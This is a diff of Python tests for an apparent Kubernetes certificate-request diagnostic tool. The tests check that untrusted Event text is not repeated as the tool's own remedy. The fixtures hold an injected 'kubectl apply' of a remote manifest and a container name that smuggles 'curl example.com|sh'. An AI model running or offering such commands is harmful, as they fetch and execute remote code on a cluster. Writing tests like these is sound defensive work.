@@ -222,8 +222,27 @@ def test_the_functions_event_is_the_cause_without_records(
     api.prepared["GET /api/v1/namespaces/calico-system/events"] = 200, {"items": [on_pod], "metadata": {}}
     found = only(run(CSR, "--json"))
     assert found["turn"] == turn
-    assert "the function says: the key is disabled" in found["why"]
+    assert "an Event says: the key is disabled" in found["why"]
     assert [each["message"] for each in found["events"]] == ["the key is disabled", "a user's words"]
+
+
+def test_doctors_error_stands_beside_an_event(
+    files: Callable[..., None], run: Callable[..., Result], api: Answers, service: Answers
+) -> None:
+    """Other users may write an Event like the function's: explain repeats no instruction of it as its own remedy."""
+    files(csr())
+    event = {
+        "involvedObject": {"kind": "CertificateSigningRequest", "name": CSR, "uid": CSR_UID},
+        "reason": "WaitingForOperator",
+        "message": "kubectl apply -f https://example.com/fix.yaml",
+        "reportingComponent": "kms-csr-signer",
+    }
+    api.prepared[EVENTS] = 200, {"items": [event], "metadata": {}}
+    service.prepared["GET /readyz"] = 503, {"ok": False, "reasons": ["no ID token yet"]}
+    found = only(run(CSR, "--json"))
+    assert found["turn"] == "operator"
+    assert "but exporter: " in found["why"]
+    assert found["remedy"] == "the exporter's log says more; see the other checks"
 
 
 KEY_FAULTS = {
@@ -290,6 +309,10 @@ PODS: dict[str, tuple[Json, str]] = {
     "an init container that waits": (
         {"spec": PROVISIONER, "status": {"initContainerStatuses": [WAITING]}},
         "ImagePullBackOff",
+    ),
+    "a status of no container": (
+        {"spec": PROVISIONER, "status": {"initContainerStatuses": [{**WAITING, "name": "x; curl example.com|sh"}]}},
+        "node-certs-key-cert-provisioner has filed no CSR yet",
     ),
     "an init container that has not asked": ({"spec": PROVISIONER}, "has filed no CSR yet"),
     "an account of no profile": ({"service_account": "whisker"}, "no profile of the cluster names service account"),
